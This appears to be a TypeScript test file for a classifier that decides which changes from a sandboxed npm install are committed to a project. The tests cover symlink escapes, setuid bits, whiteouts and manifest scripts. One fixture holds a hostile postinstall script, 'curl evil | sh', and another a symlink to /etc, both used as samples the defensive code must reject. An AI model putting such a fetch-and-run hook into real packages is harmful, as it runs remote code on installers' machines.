import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classify, safeMode, type EntryFacts, type NodeFacts } from '../../../src/stage/classify.js';
import { writeRules } from '../../../src/stage/rules.js';
import type { Change } from '../../../src/stage/types.js';

let ino = 100;
const node = (type: NodeFacts['type'], extra: Partial<NodeFacts> = {}): NodeFacts => {
  const id = extra.id ?? `1:${ino++}`;
  return { type, mode: type === 'dir' ? 0o755 : 0o644, size: 10, nlink: 1, id, fingerprint: `${id}:fp`, ...extra };
};
const policy = {
  rules: writeRules(['node_modules/**', 'package.json', 'package-lock.json', 'npm-shrinkwrap.json']),
  manifest: 'package.json',
  lockfiles: ['package-lock.json', 'npm-shrinkwrap.json'],
};
const byPath = (changes: Change[]) => new Map(changes.map((c) => [c.path, c]));
/** The walk reports every upper directory before its entries: here, a kept node_modules. */
const nm = (): EntryFacts => ({ path: 'node_modules', upper: node('dir'), lower: node('dir') });

test('a new file under node_modules is committed; the same elsewhere is discarded', () => {
  const m = byPath(classify([
    { path: 'node_modules', upper: node('dir'), lower: null },
    { path: 'node_modules/a.js', upper: node('file'), lower: null },
    { path: 'src', upper: node('dir'), lower: node('dir') },
    { path: 'src/x.js', upper: node('file'), lower: null },
  ], policy));
  assert.equal(m.get('node_modules')!.verdict, 'commit');
  assert.equal(m.get('node_modules/a.js')!.kind, 'added');
  assert.equal(m.get('node_modules/a.js')!.verdict, 'commit');
  assert.equal(m.has('src'), false, 'a merge directory with no chmod is not a change');
  assert.equal(m.get('src/x.js')!.verdict, 'discard');
});

test('an opaque directory over the project one replaces it; children are new', () => {
  const m = byPath(classify([
    { path: 'node_modules', upper: node('dir'), lower: node('dir'), opaque: true, lowerBlocker: null },
    { path: 'node_modules/a.js', upper: node('file'), lower: node('file') },
  ], policy));
  assert.equal(m.get('node_modules')!.kind, 'replaced-dir');
  assert.equal(m.get('node_modules')!.verdict, 'commit');
  assert.equal(m.get('node_modules/a.js')!.kind, 'added', 'the project version is gone with its directory');
});

test('a refused replacement leaves the project directory merged, not half-deleted', () => {
  const rules = writeRules(['lib/*.js']);
  const m = byPath(classify([
    { path: 'lib', upper: node('dir'), lower: node('dir'), opaque: true, lowerBlocker: { path: 'lib/README', reason: 'not covered' } },
    { path: 'lib/a.js', upper: node('file'), lower: node('file') },
  ], { ...policy, rules }));
  assert.equal(m.get('lib')!.verdict, 'discard');
  assert.match(m.get('lib')!.reason, /would remove lib\/README/);
  assert.equal(m.get('lib/a.js')!.kind, 'modified');
  assert.equal(m.get('lib/a.js')!.verdict, 'commit');
});

test('children of a discarded new directory are discarded with it', () => {
  const m = byPath(classify([
    { path: '.github', upper: node('dir'), lower: null },
    { path: '.github/workflows', upper: node('dir'), lower: null },
    { path: '.github/workflows/x.yml', upper: node('file'), lower: null },
  ], policy));
  assert.match(m.get('.github')!.reason, /CI configuration/);
  assert.equal(m.get('.github/workflows/x.yml')!.verdict, 'discard');
});

test('whiteouts: deletions of project entries, nothing for entries that never existed', () => {
  const changes = classify([
    { path: 'npm-shrinkwrap.json', upper: node('whiteout'), lower: node('file') },
    { path: 'README.md', upper: node('whiteout'), lower: node('file') },
    { path: 'package.json', upper: node('whiteout'), lower: node('file') },
    { path: 'ghost', upper: node('whiteout'), lower: null },
  ], policy);
  const m = byPath(changes);
  assert.deepEqual([m.get('npm-shrinkwrap.json')!.kind, m.get('npm-shrinkwrap.json')!.verdict], ['deleted', 'commit']);
  assert.equal(m.get('README.md')!.verdict, 'discard');
  assert.match(m.get('package.json')!.reason, /not a dependency change/);
  assert.equal(m.has('ghost'), false);
});

test('deleting a directory is refused when something below it is outside the rules', () => {
  const m = byPath(classify([
    { path: 'node_modules', upper: node('whiteout'), lower: node('dir'), lowerBlocker: null },
    { path: 'src', upper: node('whiteout'), lower: node('dir'), lowerBlocker: { path: 'src/a.js', reason: 'x' } },
  ], policy));
  assert.equal(m.get('node_modules')!.verdict, 'commit');
  assert.equal(m.get('src')!.verdict, 'discard');
});

test('FIFOs, sockets and devices are refused', () => {
  for (const what of ['FIFO', 'socket', 'character device', 'block device']) {
    const [c] = classify([nm(), { path: 'node_modules/x', upper: node('other', { what }), lower: null }], policy);
    assert.equal(c!.verdict, 'discard');
    assert.match(c!.reason, new RegExp(`${what} refused`));
  }
});

test('hard links inside the staging area become copies; a link to a file outside it is refused', () => {
  const shared = node('file', { nlink: 2 });
  const outside = node('file', { nlink: 2 });
  const m = byPath(classify([
    nm(),
    { path: 'node_modules/a', upper: shared, lower: null },
    { path: 'node_modules/b', upper: shared, lower: null },
    { path: 'node_modules/shadow', upper: outside, lower: null },
  ], policy));
  assert.equal(m.has('node_modules'), false);
  assert.equal(m.get('node_modules/a')!.verdict, 'commit');
  assert.equal(m.get('node_modules/a')!.hardLinks, 2);
  assert.match(m.get('node_modules/a')!.reason, /independent copy/);
  assert.match(m.get('node_modules/shadow')!.reason, /outside the staging area/);
});

test('setuid and world-write bits are reported and stripped from the committed mode', () => {
  const [c] = classify([nm(), { path: 'node_modules/x', upper: node('file', { mode: 0o4777 }), lower: null }], policy);
  assert.match(c!.reason, /setuid\/setgid bit removed.*group\/world write removed/);
  assert.equal(safeMode('file', 0o4777), 0o755);
  assert.equal(safeMode('file', 0o2666), 0o644);
  assert.equal(safeMode('dir', 0o1777), 0o755);
  assert.equal(safeMode('dir', 0o000), 0o700);
});

test('symlinks: inside kept, outside discarded, unreadable targets discarded', () => {
  const m = byPath(classify([
    nm(),
    { path: 'node_modules/.bin', upper: node('dir'), lower: null },
    { path: 'node_modules/x', upper: node('dir'), lower: null },
    { path: 'node_modules/.bin/x', upper: node('symlink'), lower: null, target: { text: '../x/bin.js' } },
    { path: 'node_modules/x/evil', upper: node('symlink'), lower: null, target: { text: '/etc' } },
    { path: 'node_modules/x/bad', upper: node('symlink'), lower: null, target: { text: 'a\\xff', problem: 'target is not valid UTF-8' } },
  ], policy));
  assert.equal(m.get('node_modules/.bin/x')!.verdict, 'commit');
  assert.equal(m.get('node_modules/.bin/x')!.target, '../x/bin.js');
  assert.equal(m.get('node_modules/x/evil')!.verdict, 'discard');
  assert.equal(m.get('node_modules/x/bad')!.verdict, 'discard');
});

test('a refused name is reported (escaped) and nothing below it is looked at', () => {
  const [c] = classify([nm(), { path: 'node_modules/red\\x1b[31m', nameProblem: 'name contains an ANSI escape sequence', upper: node('dir'), lower: null }], policy);
  assert.equal(c!.verdict, 'discard');
  assert.match(c!.reason, /refused name: name contains an ANSI escape/);
});

test('package.json is judged by meaning; lockfiles of other package managers are refused', () => {
  const lowerText = '{"name":"a","dependencies":{}}';
  const m = byPath(classify([
    { path: 'package.json', upper: node('file'), lower: node('file'), text: '{"name":"a","dependencies":{"x":"1"}}', lowerText },
    { path: 'yarn.lock', upper: node('file'), lower: null },
    { path: 'package-lock.json', upper: node('file'), lower: null, text: '{}' },
  ], { ...policy, registryHosts: ['registry.npmjs.org'] }));
  assert.equal(m.get('package.json')!.verdict, 'commit');
  assert.equal(m.get('package.json')!.kind, 'modified');
  assert.match(m.get('yarn.lock')!.reason, /not covered|another package manager/);
  assert.equal(m.get('package-lock.json')!.verdict, 'commit');
  const withYarn = classify([{ path: 'yarn.lock', upper: node('file'), lower: null }], { ...policy, rules: writeRules(['**']) });
  assert.match(withYarn[0]!.reason, /lockfile of another package manager/);
});

test('a directory chmod in the jail is a metadata change; a copy-up alone is not', () => {
  const m = byPath(classify([
    { path: 'node_modules', upper: node('dir', { mode: 0o777 }), lower: node('dir', { mode: 0o755 }) },
    { path: 'node_modules/keep', upper: node('dir', { mode: 0o775 }), lower: node('dir', { mode: 0o775 }) },
  ], policy));
  assert.equal(m.get('node_modules')!.kind, 'metadata');
  assert.match(m.get('node_modules')!.reason, /0755/);
  assert.equal(m.has('node_modules/keep'), false);
});

test('replacing a file by a directory, and a directory by a file', () => {
  const m = byPath(classify([
    nm(),
    { path: 'node_modules/f', upper: node('dir'), lower: node('file') },
    { path: 'node_modules/f/x', upper: node('file'), lower: null },
    { path: 'node_modules/d', upper: node('file'), lower: node('dir'), lowerBlocker: null },
  ], policy));
  assert.deepEqual([m.get('node_modules/f')!.kind, m.get('node_modules/f')!.was], ['modified', 'file']);
  assert.equal(m.get('node_modules/f/x')!.kind, 'added');
  assert.deepEqual([m.get('node_modules/d')!.kind, m.get('node_modules/d')!.type], ['replaced-dir', 'file']);
});

test('an entry whose directory the walk did not report is discarded, never guessed at', () => {
  const [c] = classify([{ path: 'node_modules/a.js', upper: node('file'), lower: null }], policy);
  assert.equal(c!.verdict, 'discard');
});

test('a workspace manifest is judged like the root one: a dependency change is kept, a new script is not', () => {
  const rules = writeRules(['node_modules/**', 'package.json', 'packages/a/package.json', 'packages/b/package.json', 'packages/a/node_modules/**']);
  const lowerText = '{"name":"a","version":"1.0.0"}';
  const m = byPath(classify([
    { path: 'packages', upper: node('dir'), lower: node('dir') },
    { path: 'packages/a', upper: node('dir'), lower: node('dir') },
    { path: 'packages/a/package.json', upper: node('file'), lower: node('file'), text: '{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"}}', lowerText },
    { path: 'packages/b', upper: node('dir'), lower: node('dir') },
    { path: 'packages/b/package.json', upper: node('file'), lower: node('file'), text: '{"name":"b","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}', lowerText: '{"name":"b","version":"1.0.0"}' },
  ], { ...policy, rules, workspaceManifests: ['packages/a/package.json', 'packages/b/package.json'] }));
  assert.equal(m.get('packages/a/package.json')!.verdict, 'commit');
  assert.equal(m.get('packages/b/package.json')!.verdict, 'discard');
  assert.match(m.get('packages/b/package.json')!.reason, /scripts/);
});
